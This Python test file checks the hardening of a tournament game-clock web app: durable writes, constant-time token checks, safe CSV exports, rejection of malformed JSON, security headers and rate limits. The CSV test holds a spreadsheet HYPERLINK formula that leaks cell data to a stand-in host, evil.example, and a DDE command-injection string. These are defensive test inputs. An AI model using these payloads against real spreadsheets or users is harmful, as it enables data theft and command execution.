"""Web hardening: each test replays an attack (or a failure) and shows it refused,
with the server's state as it was."""

from __future__ import annotations

import ast
import csv
import io
import json
import re
import sqlite3
from pathlib import Path
from typing import Any

import httpx
import pytest
import websockets
from sqlalchemy import text

from app.api import guard
from app.api.exports import csv_cell
from app.api.limits import ClientLimits
from app.main import create_app
from app.settings import Settings
from app.store.repository import Store
from app.tables.timesource import FakeTime
from tests.conftest import PhoneFactory, RunningServer, start_server, token_of

APP = Path(__file__).resolve().parents[2] / "app"


async def _event(http: httpx.AsyncClient, players: int = 0) -> tuple[str, str]:
    created = await http.post("/api/events", json={"name": "Hardening Open", "points": 75})
    assert created.status_code == 201, created.text
    eid, token = created.json()["id"], created.json()["admin_token"]
    for n in range(players):
        added = await http.post(
            f"/api/events/{eid}/players", json={"name": f"P{n}"}, headers={"X-EO-Token": token}
        )
        assert added.status_code == 201, added.text
    return eid, token


# --- durability: an acked tap survives a power loss ------------------------------------


def test_acked_tap_survives_power_loss__sqlite_synchronous_full_by_default(
    tmp_path: Path,
) -> None:
    """With synchronous=FULL the write-ahead log is synced at every commit: a tap the
    phone saw acked is on disk. Both the pool's connections and the hot-path writer."""
    assert Settings().sqlite_synchronous == "FULL"
    store = Store(f"sqlite:///{tmp_path / 'full.db'}")
    try:
        with store.engine.connect() as conn:
            assert conn.execute(text("PRAGMA synchronous")).scalar() == 2  # FULL
    finally:
        store.close()


async def test_an_acked_tap_is_synced_to_disk_after_its_peers_have_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The hot-path writer commits without waiting for the disk, the other screens get
    the tap, then one fsync of the write-ahead log makes it durable before the sender's
    screen gets it with its ack."""
    import os

    from app.domain import commands as c
    from app.domain.clock import Side
    from app.tables.fanout import Subscriber
    from app.tables.hub import TableHub
    from app.tables.quick import QuickGame
    from app.tables.timesource import FakeTime

    store = Store(f"sqlite:///{tmp_path / 'group.db'}")
    hub = TableHub(store, FakeTime())
    room = hub.create(QuickGame(clock_minutes=60))
    order: list[str] = []
    synced: list[str] = []
    real_fsync = os.fsync

    def fsync(fd: int) -> None:
        synced.append(os.readlink(f"/proc/self/fd/{fd}"))
        order.append("fsync")
        real_fsync(fd)

    monkeypatch.setattr(os, "fsync", fsync)
    peer, sender = Subscriber("p2"), Subscriber("p1")
    peer.direct = lambda texts: order.append("peer") or len(texts)
    sender.direct = lambda texts: order.append("sender") or len(texts)
    room.channel.join(peer)
    room.channel.join(sender)
    try:
        assert store._writer().execute("PRAGMA synchronous").fetchone()[0] == 1  # synced by us
        ack = await room.apply(Side.P1, "phone-1", 1, c.StartClock(), origin=sender)
        order.append("ack")
        assert ack.version == 1 and len(ack.before) == 1  # its event, for its ack's write
        # The sender's own screen shows its tap done only with the ack, once durable.
        assert order == ["peer", "fsync", "ack"]
        assert synced == [str(tmp_path / "group.db-wal")]
        await store.durable()  # nothing new: no second fsync
        assert len(synced) == 1
    finally:
        await hub.close()
        store.close()


def test_sqlite_synchronous_normal_only_when_chosen(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DEATHCLOCK_SQLITE_SYNCHRONOUS", "normal")
    settings = Settings.from_env()
    store = Store(f"sqlite:///{tmp_path / 'normal.db'}", synchronous=settings.sqlite_synchronous)
    try:
        with store.engine.connect() as conn:
            assert conn.execute(text("PRAGMA synchronous")).scalar() == 1  # NORMAL
    finally:
        store.close()
    with pytest.raises(ValueError, match="synchronous"):
        Store(f"sqlite:///{tmp_path / 'off.db'}", synchronous="OFF")


# --- constant-time token comparisons -----------------------------------------------------


def _names(node: ast.expr) -> list[str]:
    if isinstance(node, ast.Name):
        return [node.id]
    if isinstance(node, ast.Attribute):
        return [node.attr, *_names(node.value)]
    return []


def test_no_token_is_compared_with_eq_or_in() -> None:
    """A token compared with ==, != or `in` leaks, byte by byte, how much of a guess was
    right (the comparison stops at the first difference). Every token and key in app/
    goes through hmac.compare_digest instead."""
    found = []
    for path in sorted(APP.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            if not isinstance(node, ast.Compare):
                continue
            if not any(isinstance(op, ast.Eq | ast.NotEq | ast.In | ast.NotIn) for op in node.ops):
                continue
            operands = [node.left, *node.comparators]
            names = [n.lower() for operand in operands for n in _names(operand)]
            if any("token" in n or n.endswith("key") for n in names):
                found.append(f"{path.relative_to(APP.parent)}:{node.lineno}")
    assert found == []


async def test_dashboard_socket_compares_eo_token_in_constant_time(
    server: RunningServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The dashboard socket's EO token goes through hmac.compare_digest; a near-miss, an
    empty token, a number or a lone surrogate all get the public view, not the EO's."""
    calls: list[tuple[bytes, bytes]] = []
    real = guard.hmac.compare_digest

    def spy(a: Any, b: Any) -> bool:
        calls.append((a, b))
        return real(a, b)

    monkeypatch.setattr(guard.hmac, "compare_digest", spy)
    async with httpx.AsyncClient(base_url=server.base) as http:
        eid, token = await _event(http)

    async def role(hello: str) -> str:
        async with websockets.connect(f"{server.ws_base}/ws/events/{eid}") as ws:
            await ws.send(hello)
            snapshot = json.loads(await ws.recv())
            assert snapshot["t"] == "dashboard"
            return str(snapshot["role"])

    assert await role(json.dumps({"t": "hello", "token": token})) == "eo"
    assert calls and calls[-1] == (token.encode(), token.encode())
    near_miss = token[:-1] + ("y" if token[-1] != "y" else "z")
    assert await role(json.dumps({"t": "hello", "token": near_miss})) == "public"
    assert await role(json.dumps({"t": "hello", "token": ""})) == "public"
    assert await role(json.dumps({"t": "hello", "token": 12345})) == "public"
    assert await role('{"t": "hello", "token": "\\ud800"}') == "public"


# --- CSV exports: no formula runs in the EO's spreadsheet ----------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for prizes")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


async def test_csv_exports_neutralise_formula_cells(
    server: RunningServer, phone: PhoneFactory
) -> None:
    """ST6 exports: player-typed text that a spreadsheet would run (a list played of
    =HYPERLINK(...), a name of =cmd|..., a faction of +, a name of @) is written with a
    leading single quote; the numbers the server wrote stay plain numbers; the stored
    text (the JSON API) is as the players typed it."""
    evil_names = ["=cmd|' /C calc'!A0", "@SUM(1+1)"]
    async with httpx.AsyncClient(base_url=server.base) as http:
        eid, token = await _event(http)
        eo = {"X-EO-Token": token}
        for name, faction in zip(evil_names, ("+Cryx", "-1+1"), strict=True):
            added = await http.post(
                f"/api/events/{eid}/players", json={"name": name, "faction": faction}, headers=eo
            )
            assert added.status_code == 201, added.text
        assert (await http.post(f"/api/events/{eid}/rounds", json={}, headers=eo)).is_success
        assert (await http.post(f"/api/events/{eid}/rounds/current/start", headers=eo)).is_success
        (table,) = (await http.get(f"/api/events/{eid}/tables", headers=eo)).json()
        tid = table["links"]["id"]
        p1 = await phone(tid, token_of(table["links"]["p1"]["url"]), "csv-1")
        p2 = await phone(tid, token_of(table["links"]["p2"]["url"]), "csv-2")
        assert (await p1.command("concede"))["t"] == "ack"
        reported = await p2.command("report", army_points_destroyed=20, list_played=HYPERLINK)
        assert reported["t"] == "ack", reported
        for client in (p1, p2):
            assert (await client.command("confirm"))["t"] == "ack", client.received[-1]

        exports = {}
        for name in ("results", "standings", "pairings"):
            response = await http.get(f"/api/events/{eid}/{name}.csv")
            assert response.status_code == 200
            exports[name] = list(csv.DictReader(io.StringIO(response.text)))
        winner = evil_names[1] if table["names"][1] == evil_names[1] else evil_names[0]
        sheet_id = next(
            p["id"]
            for p in (await http.get(f"/api/events/{eid}")).json()["players"]
            if p["name"] == winner
        )
        sheet = (await http.get(f"/api/events/{eid}/players/{sheet_id}/sheet")).json()

    cells = [v for rows in exports.values() for row in rows for v in row.values()]
    assert cells and not [v for v in cells if v.startswith(FORMULA_STARTS)]
    lists = [row["list_played"] for row in exports["results"] if row["list_played"]]
    assert lists == ["'" + HYPERLINK]
    assert {row["player"] for row in exports["results"]} == {"'" + n for n in evil_names}
    assert {row["faction"] for row in exports["results"]} == {"'+Cryx", "'-1+1"}
    assert {row["control_points"] for row in exports["results"]} <= {"0", "3"}  # numbers
    assert all(row["round"] == "1" for row in exports["pairings"])
    assert sheet["rounds"][0]["list_played"] == HYPERLINK  # stored as typed


def test_csv_cell_keeps_numbers_and_plain_text() -> None:
    assert csv_cell(-3) == -3 and csv_cell(2.5) == 2.5 and csv_cell(None) is None
    assert csv_cell("Eiryss") == "Eiryss" and csv_cell("") == ""
    assert csv_cell("-3") == "'-3"  # typed text, not a number the server wrote
    for start in FORMULA_STARTS:
        assert csv_cell(start + "1+1") == "'" + start + "1+1"


# --- bad JSON on REST: a 4xx with a reason, never a 500, nothing changed ------------------

SURROGATE = "\\ud800"  # the JSON escape of a lone (high) surrogate: not Unicode text


def _with(template: dict[str, Any], field: str, raw: str) -> bytes:
    """`template` as JSON text with `field`'s value replaced by the raw JSON `raw`."""
    body = dict(template)
    body[field] = "@@RAW@@"
    return json.dumps(body).replace('"@@RAW@@"', raw).encode()


def _attacks(template: dict[str, Any], text: str, number: str) -> list[tuple[str, bytes, str]]:
    """(name, body, words the error must contain: '' = any readable reason)."""
    field = text if number == "x" else number  # a field the endpoint reads
    return [
        ("lone_high_surrogate", _with(template, text, f'"{SURROGATE}"'), "surrogate"),
        ("lone_low_surrogate", _with(template, text, '"a\\udc00b"'), "surrogate"),
        (
            "surrogate_in_key",
            json.dumps(template).replace("{", '{"\\udfff": 1, ', 1).encode(),
            "surrogate",
        ),
        ("nan", _with(template, number, "NaN"), "NaN"),
        ("infinity", _with(template, number, "Infinity"), "Infinity"),
        ("minus_infinity", _with(template, number, "-Infinity"), "Infinity"),
        ("1e999", _with(template, number, "1e999"), "finite"),
        ("minus_1e999", _with(template, number, "-1e999"), "finite"),
        ("int_2_70", _with(template, field, str(2**70)), ""),
        ("minus_int_2_70", _with(template, field, str(-(2**70))), ""),
        ("int_5000_digits", _with(template, number, "9" * 5000), "digits"),
        ("float_for_text", _with(template, text, "1e308"), ""),
        ("object_for_text", _with(template, text, '{"$gt": ""}'), ""),
        ("list_for_text", _with(template, text, "[1, 2]"), ""),
        ("text_too_long", _with(template, text, json.dumps("x" * 1000)), ""),
        ("nested_10000", b"[" * 10_000 + b"]" * 10_000, "nested"),
        ("nested_40_objects", _with(template, text, '{"a":' * 40 + "1" + "}" * 40), "nested"),
        ("array_body", b"[]", ""),
        ("string_body", b'"hello"', ""),
        ("null_body", b"null", ""),
        ("truncated", json.dumps(template).encode()[:-1], "not valid JSON"),
        ("trailing_garbage", json.dumps(template).encode() + b"}", "not valid JSON"),
        ("not_utf8", b'{"name": "\xff\xfe"}', "UTF-8"),
        ("too_large", _with(template, text, json.dumps("x" * 100_000)), "bytes at most"),
    ]


async def _state(http: httpx.AsyncClient, live: dict[str, str], database: str) -> Any:
    eo = {"X-EO-Token": live["token"]}
    admin = (await http.get(f"/api/events/{live['eid']}/admin", headers=eo)).json()
    admin.pop("server_ms")
    actions = (await http.get(f"/api/events/{live['eid']}/actions", headers=eo)).json()
    log = (
        await http.get(f"/api/tables/{live['quick']}/log", headers={"X-Table-Token": live["qeo"]})
    ).json()
    with sqlite3.connect(database) as db:
        counts = [
            db.execute(f"SELECT count(*) FROM {t}").fetchone()[0]
            for t in ("game_table", "event", "player", "table_log")
        ]
    return admin, actions, log, counts


async def test_bad_json_gets_a_4xx_with_a_reason_on_every_json_endpoint(
    server: RunningServer, database_url: str
) -> None:
    """Every JSON endpoint of the REST API, ~23 hostile bodies each (lone surrogates, NaN,
    Infinity, 1e999, huge integers, deep nesting, wrong types, text past its length
    limit, broken or non-UTF-8 JSON, a 100 kB body): each gets a 4xx whose `detail` says
    what is wrong, and the event, its tables, players, EO actions and logs are as before."""
    async with httpx.AsyncClient(base_url=server.base) as http:
        eid, token = await _event(http, players=2)
        eo = {"X-EO-Token": token}
        assert (await http.post(f"/api/events/{eid}/rounds", json={}, headers=eo)).is_success
        (table,) = (await http.get(f"/api/events/{eid}/tables", headers=eo)).json()
        tid = table["links"]["id"]
        players = [p["id"] for p in (await http.get(f"/api/events/{eid}")).json()["players"]]
        quick = (await http.post("/api/tables", json={})).json()
        live = {"eid": eid, "token": token, "quick": quick["id"], "qeo": token_of(quick["eo"])}
        table_eo = {"X-Table-Token": live["qeo"]}
        endpoints = [
            ("POST", "/api/tables", {}, {"p1_name": "Ann", "points": 75}, "p1_name", "points"),
            ("POST", f"/api/tables/{quick['id']}/rotate", table_eo, {"link": "watch"}, "link",
             "x"),
            ("POST", "/api/events", {}, {"name": "Open", "points": 75}, "name", "points"),
            ("POST", f"/api/events/{eid}/players", eo, {"name": "Zed"}, "name", "x"),
            ("PUT", f"/api/events/{eid}/players/{players[0]}", eo, {"name": "Ann"}, "faction",
             "x"),
            ("POST", f"/api/events/{eid}/players/{players[0]}/drop", eo, {"dropped": True},
             "dropped", "x"),
            ("POST", f"/api/events/{eid}/rounds", eo, {"scenario": "bunkers"}, "scenario", "x"),
            ("POST", f"/api/events/{eid}/rounds/current/swap", eo,
             {"a": players[0], "b": players[1]}, "a", "x"),
            ("POST", f"/api/events/{eid}/tables/{tid}/command", eo, {"c": "pause"}, "c", "seq"),
            ("PUT", f"/api/events/{eid}/tables/{tid}/result", eo,
             {"winner": "p1", "control_points": [3, 0], "army_points_destroyed": [10, 0],
              "method": "eo", "lists": ["", ""]}, "method", "army_points_destroyed"),
        ]  # fmt: skip
        database = database_url.split("///", 1)[1]
        before = await _state(http, live, database)
        failures = []
        for method, path, headers, template, text, number in endpoints:
            for name, body, words in _attacks(template, text, number):
                response = await http.request(
                    method,
                    path,
                    content=body,
                    headers={**headers, "Content-Type": "application/json"},
                )
                try:
                    detail = response.json().get("detail")
                except ValueError:
                    detail = None
                readable = (isinstance(detail, str) and detail) or (
                    isinstance(detail, list) and detail and all(d.get("msg") for d in detail)
                )
                if (
                    not 400 <= response.status_code < 500
                    or not readable
                    or (words and words not in str(detail))
                ):
                    failures.append(f"{method} {path} {name}: {response.status_code} {detail}")
        assert failures == []
        assert await _state(http, live, database) == before


def test_every_free_text_field_of_a_request_has_a_length_limit() -> None:
    """Every text field a request body takes (and every list) has a maximum length in the
    OpenAPI schema, which FastAPI enforces: no field stores megabytes."""
    schema = create_app(Settings(database_url="sqlite://")).openapi()
    components = schema["components"]["schemas"]
    unbounded: list[str] = []

    def walk(node: dict[str, Any], where: str) -> None:
        if "$ref" in node:
            name = node["$ref"].rsplit("/", 1)[1]
            walk(components[name], name)
            return
        for option in node.get("anyOf", []):
            walk(option, where)
        if node.get("type") == "string" and "maxLength" not in node and "enum" not in node:
            unbounded.append(where)
        if node.get("type") == "array":
            if "maxItems" not in node:
                unbounded.append(where + "[]")
            walk(node.get("items", {}), where + "[]")
        for field, sub in node.get("properties", {}).items():
            walk(sub, f"{where}.{field}")

    bodies = 0
    for path, operations in schema["paths"].items():
        for method, operation in operations.items():
            content = operation.get("requestBody", {}).get("content", {})
            if "application/json" in content:
                bodies += 1
                walk(content["application/json"]["schema"], f"{method.upper()} {path}")
    assert bodies >= 9
    assert unbounded == []


# --- security headers --------------------------------------------------------------------


async def test_security_headers_on_every_response(server: RunningServer) -> None:
    """Pages, API answers, static files, errors: each forbids inline script (XSS), plugins,
    <base> hijacking and framing (clickjacking), MIME sniffing, and the Referer that would
    carry a table's link to another site."""
    async with httpx.AsyncClient(base_url=server.base) as http:
        quick = (await http.post("/api/tables", json={})).json()
        responses = [
            await http.get("/"),
            await http.get(f"/t/{quick['id']}"),
            await http.get("/static/table/main.js"),
            await http.get("/api/formats"),
            await http.get("/openapi.json"),
            await http.get("/t/nosuchtable"),
            await http.post(
                "/api/tables", content=b"{", headers={"Content-Type": "application/json"}
            ),
            await http.post("/api/events", json={"name": ""}),
        ]
        docs = await http.get("/docs")
    assert [r.status_code for r in responses] == [200, 200, 200, 200, 200, 404, 400, 422]
    for response in responses:
        policy = response.headers["content-security-policy"]
        directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
        assert directives["script-src"] == "'self'", response.url
        assert directives["object-src"] == "'none'"
        assert directives["base-uri"] == "'none'"
        assert directives["frame-ancestors"] == "'none'"
        assert directives["connect-src"] == "'self'"
        assert "unsafe" not in policy
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["referrer-policy"] == "no-referrer"
    # FastAPI's API explorer is its own inline script from a CDN: framing and plugins
    # are still forbidden there.
    assert "frame-ancestors 'none'" in docs.headers["content-security-policy"]
    assert "object-src 'none'" in docs.headers["content-security-policy"]


# --- ids that cannot be counted through ---------------------------------------------------


async def test_table_and_event_ids_are_128_random_bits(server: RunningServer) -> None:
    """An 8-hex-digit id (32 bits) can be walked by a script; 32 hex digits cannot. The
    pages, links and sockets take the long ids."""
    async with httpx.AsyncClient(base_url=server.base) as http:
        tables = [(await http.post("/api/tables", json={})).json() for _ in range(5)]
        eid, _token = await _event(http)
        for table in tables:
            assert re.fullmatch(r"[0-9a-f]{32}", table["id"])
            assert f"/t/{table['id']}#k=" in table["p1"]["url"]
            assert (await http.get(f"/t/{table['id']}")).status_code == 200
            assert (await http.get(f"/t/{table['id']}/log")).status_code == 200
        assert len({t["id"] for t in tables}) == 5
        assert re.fullmatch(r"[0-9a-f]{32}", eid)
        assert (await http.get(f"/e/{eid}")).status_code == 200
    async with websockets.connect(f"{server.ws_base}/ws/tables/{tables[0]['id']}") as ws:
        await ws.send(json.dumps({"t": "hello", "token": token_of(tables[0]["watch"])}))
        assert json.loads(await ws.recv())["t"] == "state"


# --- per-address limits: new tables, sockets, misses ----------------------------------------


async def _limited(database_url: str, fake_time: FakeTime, burst: float) -> tuple[Any, FakeTime]:
    io_time = FakeTime()
    running = await start_server(
        database_url, fake_time, io_time=io_time, client_burst=burst, client_per_s=1.0
    )
    return running, io_time


def _count(database_url: str, table: str) -> int:
    with sqlite3.connect(database_url.split("///", 1)[1]) as db:
        return int(db.execute(f"SELECT count(*) FROM {table}").fetchone()[0])


async def test_creating_tables_is_limited_per_address(
    database_url: str, fake_time: FakeTime
) -> None:
    """A script creating quick games or events in a loop (API or form) is answered 429
    with a reason and Retry-After once its address's budget is spent; nothing is created.
    The budget refills with the (injected) clock."""
    running, io_time = await _limited(database_url, fake_time, burst=3)
    try:
        async with httpx.AsyncClient(base_url=running.base) as http:
            for _ in range(3):
                assert (await http.post("/api/tables", json={})).status_code == 201
            tables, events = _count(database_url, "game_table"), _count(database_url, "event")
            refused = [
                await http.post("/api/tables", json={}),
                await http.post("/api/events", json={"name": "Spam Open"}),
                await http.post("/quick", data={"format": "sr2019"}),
                await http.post("/events", data={"name": "Spam Open"}),
            ]
            for response in refused:
                assert response.status_code == 429
                assert response.json()["code"] == "rate_limited"
                assert "too many" in response.json()["detail"]
                assert int(response.headers["retry-after"]) >= 1
                assert response.headers["x-content-type-options"] == "nosniff"
            assert (_count(database_url, "game_table"), _count(database_url, "event")) == (
                tables,
                events,
            )
            assert (await http.get("/api/formats")).status_code == 200  # reading goes on
            io_time.advance(1_000)
            assert (await http.post("/api/tables", json={})).status_code == 201
            assert (await http.post("/api/tables", json={})).status_code == 429
    finally:
        await running.stop()


async def test_opening_sockets_is_limited_per_address(
    database_url: str, fake_time: FakeTime
) -> None:
    """Sockets opened in a loop from one address: past the budget each is accepted only
    to say why (error rate_limited) and closed with 4429; the table's screens that were
    open go on as before."""
    running, io_time = await _limited(database_url, fake_time, burst=3)
    try:
        async with httpx.AsyncClient(base_url=running.base) as http:
            table = (await http.post("/api/tables", json={})).json()  # 1 of 3
        url = f"{running.ws_base}/ws/tables/{table['id']}"
        hello = json.dumps({"t": "hello", "token": token_of(table["watch"])})
        opened = []
        for _ in range(2):
            ws = await websockets.connect(url)
            await ws.send(hello)
            assert json.loads(await ws.recv())["t"] == "state"
            opened.append(ws)
        refused = await websockets.connect(url)
        message = json.loads(await refused.recv())
        assert message["t"] == "error" and message["code"] == "rate_limited"
        with pytest.raises(websockets.ConnectionClosed):
            await refused.recv()
        assert refused.close_code == 4429
        dashboard = await websockets.connect(f"{running.ws_base}/ws/events/nosuchevent")
        assert json.loads(await dashboard.recv())["code"] == "rate_limited"
        for ws in opened:  # the screens that were open still answer
            await ws.send(json.dumps({"t": "ping", "id": 1}))
            assert json.loads(await ws.recv())["t"] == "pong"
            await ws.close()
        io_time.advance(1_000)
        async with websockets.connect(url) as again:
            await again.send(hello)
            assert json.loads(await again.recv())["t"] == "state"
    finally:
        await running.stop()


async def test_probing_unknown_ids_is_throttled(database_url: str, fake_time: FakeTime) -> None:
    """A script walking table or event ids: each miss (404, and a wrong token's 401/403
    or a socket's 4404) spends the address's budget; once it is spent, every id lookup
    from that address is answered 429 until the budget refills, existing or not. Pages
    without an id are still served."""
    running, io_time = await _limited(database_url, fake_time, burst=6)
    try:
        async with httpx.AsyncClient(base_url=running.base) as http:
            table = (await http.post("/api/tables", json={})).json()  # 1 of 6
            assert (await http.get(f"/t/{table['id']}")).status_code == 200
            misses = [f"/t/{n:032x}" for n in range(4)] + [f"/api/events/{'0' * 32}"]
            assert [(await http.get(p)).status_code for p in misses] == [404] * 5
            for path in (f"/t/{'f' * 32}", f"/t/{table['id']}", f"/api/tables/{table['id']}/log"):
                response = await http.get(path)
                assert response.status_code == 429, path
                assert response.json()["code"] == "rate_limited"
            assert (await http.get("/")).status_code == 200
            assert (await http.get("/static/css/base.css")).status_code == 200
            io_time.advance(1_000)
            assert (await http.get(f"/t/{table['id']}")).status_code == 200
    finally:
        await running.stop()


def test_client_limits_are_per_address_and_forget_full_buckets() -> None:
    time = FakeTime()
    limits = ClientLimits(time, per_s=1.0, burst=2)
    assert limits.take("10.0.0.1") and limits.take("10.0.0.1")
    assert not limits.take("10.0.0.1") and not limits.ready("10.0.0.1")
    assert limits.take("10.0.0.2")  # another address has its own budget
    time.advance(1_000)
    assert limits.ready("10.0.0.1") and limits.take("10.0.0.1")
    time.advance(10_000)
    limits.prune()
    assert limits.buckets == {}
